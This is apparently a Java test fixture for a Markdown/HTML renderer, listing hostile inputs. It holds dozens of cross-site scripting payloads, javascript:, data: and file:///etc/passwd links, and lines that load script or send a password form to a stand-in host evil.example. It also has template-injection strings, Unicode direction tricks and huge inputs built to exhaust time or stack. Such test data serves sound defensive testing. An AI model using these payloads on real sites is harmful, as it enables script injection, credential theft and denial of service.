package app.tidings.render.prose;

import java.util.List;
import java.util.stream.Stream;

/** Texts that want to run, to escape, to hide or to pose as something else. */
public final class HostileTexts {

    private static final List<String> TEXTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)//",
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=javascript:alert(1)>",
            "<object data=javascript:alert(1)>",
            "<embed src=//evil.example/x.swf>",
            "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
            "<style>body{display:none} @import url(//evil.example)</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<div style=\"background:url(javascript:alert(1))\" onclick=alert(1)>div</div>",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">a</a>",
            "<video><source onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<textarea></textarea><script>alert(1)</script>",
            "</article></main></body></html><script>alert(1)</script>",
            "</td></tr></table><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "' onmouseover='alert(1)",
            "\" style=\"x:expression(alert(1))\" x=\"",
            "<!-- unclosed comment",
            "--><script>alert(1)</script><!--",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?>",
            "<b",
            "<b><i><u>unclosed",
            "[a](javascript:alert(1))",
            "[a](JaVaScRiPt:alert(1))",
            "[a](java&#10;script:alert(1))",
            "[a](&#106;avascript:alert(1))",
            "[a](\\javascript:alert(1))",
            "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[a](vbscript:msgbox(1))",
            "[a](file:///etc/passwd)",
            "[a](//evil.example)",
            "[a](/relative)",
            "[a](<javascript:alert(1)>)",
            "[a](https://ok.example \"x\\\" onmouseover=alert(1) x=\\\"\")",
            "[a][1]\n\n[1]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "![x](javascript:alert(1))",
            "![x](https://tracker.example/pixel.gif)",
            "[![x](https://tracker.example/pixel.gif)](javascript:alert(1))",
            "![x\"onerror=\"alert(1)](https://ok.example/x.png)",
            "[title]: https://evil.example/",
            "# A heading of its own",
            "## 🦄文章&教程",
            "Setext\n======",
            "Setext\n---",
            "text\n\n---\n\ntitle: 'forged'\n\n---",
            "***",
            "```\nfence never closed\n<script>alert(1)</script>",
            "~~~~ \"onload=alert(1)\nfence never closed",
            "   ```\n<script>alert(1)</script>\n   ```",
            "    <script>alert(1)</script>",
            "\t<script>alert(1)</script>",
            "- item\n\n      <script>alert(1)</script>",
            "> quote\n<script>alert(1)</script>",
            "1. one\n2. two",
            "2、[another entry](https://evil.example)",
            "`code` <script>alert(1)</script> `code`",
            "``<script>`alert(1)</script>",
            "a\u0000b<scr\u0000ipt>alert(1)</script>",
            "\u202Etxt.exe\u202C \u2066hidden\u2069",
            "line\u2028line\u2029line\u0085line\rline\r\nline",
            "\uD800 unpaired \uDC00",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "${7*7} #{7*7} {{7*7}} @if(true) <%= 7*7 %> !{7*7}",
            "<!--neighbours-->",
            "{number} {headline} {stars} {names}",
            "'; title: forged\n---\n",
            "\\",
            "\\`*_{}[]()#+-.!|~<>&",
            "*".repeat(300),
            "[".repeat(300),
            ">".repeat(300),
            "*a **b ".repeat(60),
            "`".repeat(300),
            "<".repeat(300));

    private static final List<String> HUGE = List.of(
            "*".repeat(50_000) + "a",
            "[".repeat(50_000),
            "[".repeat(25_000) + "](https://x.example)".repeat(25_000),
            "> ".repeat(50_000) + "a",
            "- ".repeat(50_000) + "a",
            "*a **b ".repeat(20_000),
            "`".repeat(50_000) + "a",
            "<".repeat(50_000),
            "<a ".repeat(25_000),
            "![".repeat(25_000),
            "：**甲".repeat(25_000),
            "&#60;".repeat(20_000),
            "a\n".repeat(50_000));

    private HostileTexts() {}

    /** Every hostile text. */
    public static Stream<String> all() {
        return TEXTS.stream();
    }

    /** Texts that want to take for ever, or all the stack. */
    public static Stream<String> huge() {
        return HUGE.stream();
    }
}
